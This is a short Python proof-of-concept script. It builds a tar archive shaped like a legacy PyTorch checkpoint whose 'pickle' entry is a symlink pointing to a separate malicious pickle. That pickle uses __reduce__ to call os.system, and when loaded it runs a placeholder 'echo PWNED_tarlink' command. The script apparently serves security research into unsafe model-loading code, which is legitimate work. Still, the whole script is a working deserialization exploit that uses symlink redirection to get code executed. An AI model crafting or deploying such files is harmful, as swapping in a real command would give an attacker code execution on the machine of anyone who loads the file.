import tarfile, io, pickle, os
class E:
    def __reduce__(self): return (os.system, ('echo PWNED_tarlink',))
os.makedirs('/tmp/r/elsewhere', exist_ok=True)
open('/tmp/r/elsewhere/notes.txt','wb').write(pickle.dumps(E(), protocol=2))
def add(t, name, data):
    ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
with tarfile.open('/tmp/r/legacy_symlink.tar', 'w', format=tarfile.PAX_FORMAT) as t:
    add(t, 'sys_info', pickle.dumps({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short':2,'int':4,'long':4}}, protocol=2))
    add(t, 'storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2))
    add(t, 'tensors', pickle.dumps(0, protocol=2))
    ti = tarfile.TarInfo('pickle'); ti.type = tarfile.SYMTYPE; ti.linkname = '/tmp/r/elsewhere/notes.txt'; t.addfile(ti)
